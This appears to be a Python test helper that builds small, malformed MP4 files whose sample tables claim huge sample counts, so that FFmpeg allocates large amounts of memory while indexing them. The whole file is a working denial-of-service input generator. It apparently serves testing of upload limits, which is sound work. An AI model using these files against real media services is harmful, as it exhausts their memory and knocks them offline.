"""Audio files that are made to harm: small, and what reads them takes memory by their leave."""

import struct


def greedy_mp4(samples: int, tracks: int = 1) -> bytes:
    """Make an MP4 of a kilobyte or so without sound, whose tables tell of so many samples a track.

    FFmpeg makes an index of 24 bytes for each before it gives the file to anybody.
    """
    movie = _box("mvhd", struct.pack(">4x8xIII2x", 1000, 1000, 0x10000), bytes(70))
    return _box("ftyp", b"isom", bytes(4), b"isom") + _box(
        "moov", movie, *(_track(samples) for _ in range(tracks))
    )


def _track(samples: int) -> bytes:
    sound = struct.pack(">6xH8xHHIi", 1, 1, 16, 0, 16_000 << 16)
    table = _box(
        "stbl",
        _box("stsd", struct.pack(">4xI", 1), _box("mp4a", sound)),
        _box("stts", struct.pack(">4xIII", 1, samples, 1024)),
        _box("stsc", struct.pack(">4xIIII", 1, 1, samples, 1)),
        _box("stsz", struct.pack(">4xII", 1, samples)),  # of one byte each: no table follows
        _box("stco", struct.pack(">4xII", 1, 0)),
    )
    media = _box(
        "mdia",
        _box("mdhd", struct.pack(">4x8xIIHH", 16_000, 1000, 0, 0)),
        _box("hdlr", struct.pack(">8x4s12x", b"soun"), b"\0"),
        _box("minf", _box("smhd", bytes(8)), table),
    )
    return _box("trak", _box("tkhd", bytes(12), struct.pack(">I", 1), bytes(68)), media)


def _box(name: str, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I4s", 8 + len(body), name.encode()) + body
